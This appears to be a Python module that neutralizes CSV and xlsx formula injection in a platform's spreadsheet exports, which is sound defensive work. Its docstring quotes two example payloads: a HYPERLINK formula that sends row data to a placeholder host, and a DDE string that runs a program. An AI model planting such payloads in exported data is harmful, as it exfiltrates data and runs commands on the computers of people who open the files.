"""Spreadsheets the platform writes never carry a live formula (Art. 39 防范攻击; CSV/formula
injection, OWASP). Every xlsx and CSV writer goes through this module.

Data in a pool, a file name, a header: all came from someone outside. A text cell starting with
``= + - @``, a tab or a carriage return (or their full-width forms, which Excel in a Chinese or
Japanese locale reads the same) may run as a formula when a person opens the file, e.g.
``=HYPERLINK("http://x/?"&A1, "点此")`` sends the row elsewhere, ``+cmd|' /C calc'!A0`` runs a
program through DDE. So:

- CSV: such text is prefixed with an apostrophe (``'=1+1``), as spreadsheet programs themselves
  write a text cell that looks like a formula.
- xlsx: every text is written as a string cell (``data_type='s'``, never a formula), and such
  text is marked "quote prefix" (Excel's own flag for it), so that editing the cell keeps it
  text. The value itself is unchanged: an exported catalog list imports back unchanged.

Numbers stay numbers (a negative amount is not a formula); only text is neutralized. Characters
XML 1.0 cannot carry are dropped from xlsx text (openpyxl refuses them).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import polars as pl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_FORMULA_PATTERN = "^[=+\\-@\\t\\r＝＋－＠]"  # the same, for Polars (Rust regex)
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_START)


def neutralize(value: Any) -> Any:
    """A CSV field's value: formula-like text prefixed with ``'``; anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``: every text neutralized, numbers and None as they are."""
    return [neutralize(v) for v in values]


def xlsx_row(worksheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``worksheet.append`` (a write-only openpyxl sheet): text as string cells."""
    from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped]

    out: list[Any] = []
    for value in values:
        if isinstance(value, str) and (
            value.startswith(FORMULA_START) or _ILLEGAL_XML.search(value) is not None
        ):
            cell = WriteOnlyCell(worksheet, _ILLEGAL_XML.sub("", value))
            cell.data_type = "s"  # openpyxl would store "=…" as a formula
            cell.quotePrefix = cell.value.startswith(FORMULA_START)
            out.append(cell)
        else:
            # Any other text openpyxl stores as a string cell already; a cell object per value
            # would cost a big report 10 % more time.
            out.append(value)
    return out


def neutralize_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """A Polars frame about to be written as CSV: every String column neutralized, vectorized
    (one pass in Rust per column, whatever the number of rows); other columns untouched."""
    import polars as pl

    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    if not text:
        return frame
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(_FORMULA_PATTERN))
        .then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text
    )
